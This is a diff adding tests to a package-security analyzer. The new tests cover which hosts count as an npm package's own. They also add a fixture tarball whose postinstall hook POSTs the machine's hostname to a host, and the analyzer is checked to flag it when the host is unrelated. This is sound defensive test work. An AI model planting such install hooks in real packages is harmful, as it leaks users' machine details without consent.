@@ -11,6 +11,7 @@ import { classifyFileRoles, pathRole, pythonInstallSeeds, roleSeverity } from '.
 import { OwnHosts, pythonMetadata, npmMetadata } from '../../shared/packages/analysis/own-hosts.js';
 import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
 import { makeSdist } from '../support/archives.js';
+import { npmTgz } from '../fixtures/archives/build.js';
 
 test('pathRole: tests, examples, docs and release tooling by path; the rest is runtime', () => {
   assert.is(pathRole('p-1.0/tests/test_x.py', 'p-1.0/'), 'test');
@@ -147,6 +148,32 @@ test('archive: a Telegram SDK posting to the bot API is not exfiltration; anothe
   // The same thief named like a Telegram SDK is still blocked: own hosts excuse the destination, not what is sent.
   const named = await level('telegram-colors', { 'PKG-INFO': info('telegram-colors'), 'setup.py': "from setuptools import setup\nsetup(name='telegram-colors', packages=['cl'])\n", 'cl/__init__.py': recon });
   assert.is(named.level, 'BLOCKED');
+});
+
+test('OwnHosts for npm: homepage host, repository path on a code host, declared binary host, the registry it came from', () => {
+  const meta = npmMetadata({ name: 'acme-widgets', homepage: 'https://docs.acmewidgets.example/guide', repository: 'github:acme-org/widgets', binary: { host: 'https://dl.widgetcdn.example' } });
+  const own = new OwnHosts(meta, ['registry.mirror.example']);
+  assert.ok(own.hasDestination('telemetry.acmewidgets.example', '/ping'));
+  assert.ok(own.hasDestination('github.com', '/acme-org/widgets/releases/download/v1/x.tgz'));
+  assert.not.ok(own.hasDestination('github.com', '/someone-else/tool/releases/download/v1/x.tgz'));
+  assert.ok(own.hasDestination('dl.widgetcdn.example'));
+  assert.ok(own.hasDestination('registry.mirror.example'));
+  assert.not.ok(own.hasDestination('collect.unrelated.example', '/ping'));
+  // npm's repository shorthand and git URLs name the same repository
+  assert.ok(new OwnHosts(npmMetadata({ name: 'w', repository: { url: 'git+ssh://git@github.com/acme-org/widgets.git' } })).hasDestination('api.github.com', '/repos/acme-org/widgets/releases'));
+});
+
+test('an npm install hook that sends the host name to its own homepage host is not exfiltration; to an unrelated host it is', async () => {
+  const pkg = (host: string) =>
+    npmTgz({
+      'package.json': JSON.stringify({ name: 'acme-widgets', version: '1.0.0', homepage: 'https://acmewidgets.example', scripts: { postinstall: 'node scripts/ping.js' } }),
+      'scripts/ping.js': `const https = require('https');\nconst os = require('os');\nconst body = JSON.stringify({ host: os.hostname(), v: process.version });\nconst req = https.request('https://${host}/install-ping', { method: 'POST' });\nreq.end(body);\n`,
+    });
+  const sends = async (host: string) => (await analyzeArchive(pkg(host), { kind: 'tgz', registry: 'npm', registryHosts: [] })).findings.filter((f) => f.ruleId === 'fingerprint_send' && f.severity === 'HIGH');
+  assert.equal(await sends('telemetry.acmewidgets.example'), []);
+  const foreign = await sends('collect.unrelated.example');
+  assert.is(foreign.length, 1);
+  assert.match(foreign[0]!.message, /not the package's own \(collect\.unrelated\.example\)/);
 });
 
 test.run();
